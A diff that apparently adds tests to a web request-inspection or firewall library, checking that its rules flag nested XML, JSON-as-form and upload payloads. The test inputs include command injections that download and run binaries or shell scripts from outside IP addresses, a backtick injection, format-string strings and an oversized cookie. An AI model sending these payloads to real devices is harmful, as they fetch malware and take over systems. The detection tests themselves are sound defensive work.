@@ -327,3 +327,44 @@ describe("a batch's embedded requests", () => {
     ).toEqual([]);
   });
 });
+
+describe("documents inside documents, and names a quote closed early", () => {
+  it("reads XML carried in CDATA, a JSON body sent as a form, and a file name's spill", () => {
+    const dvr =
+      '<?xml version="1.0"?><DVR><SetConfiguration File="service.xml"><![CDATA[<?xml version="1.0"?><DVR><NTP Server="time.nist.gov&cd /tmp;wget http://141.98.10.63/li.arm;chmod 777 li.arm"/></DVR>]]></SetConfiguration></DVR>';
+    expect(post("text/xml", dvr)).toContain("932100@body:xml.DVR.SetConfiguration.cdata.DVR.NTP@Server");
+    expect(
+      post("application/x-www-form-urlencoded", '{"topicurl":"setDiagnosisCfg","ipDoamin":"`ls>/www/1.txt`"}'),
+    ).toContain("932130@body:json.ipDoamin");
+    expect(upload('";wget -O- http://94.156.8.172/q.sh|sh;#.img', "application/octet-stream", "QNAPFW")).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^932\d+@/)]),
+    );
+    expect(post("text/xml", "<a><![CDATA[<b>Fish & chips; peas</b>]]></a>")).toEqual([]);
+  });
+
+  it("takes format strings in an XML login and overflows in a cookie or a Basic user", () => {
+    expect(post("text/xml", `<Login><Username>${"%n".repeat(12)}</Username></Login>`)).toContain(
+      "920161@body:xml.Login.Username",
+    );
+    expect(
+      where(
+        req({
+          headers: [
+            ["host", "app.example"],
+            ["cookie", `password=${"A".repeat(80)}`],
+          ],
+        }),
+      ),
+    ).toContain("920161@cookie:password");
+    expect(
+      where(
+        req({
+          headers: [
+            ["host", "app.example"],
+            ["authorization", `Basic ${btoa("%s%s%s%s%n%n:%x%x")}`],
+          ],
+        }),
+      ),
+    ).toContain("920161@header:authorization.basic.user");
+  });
+});
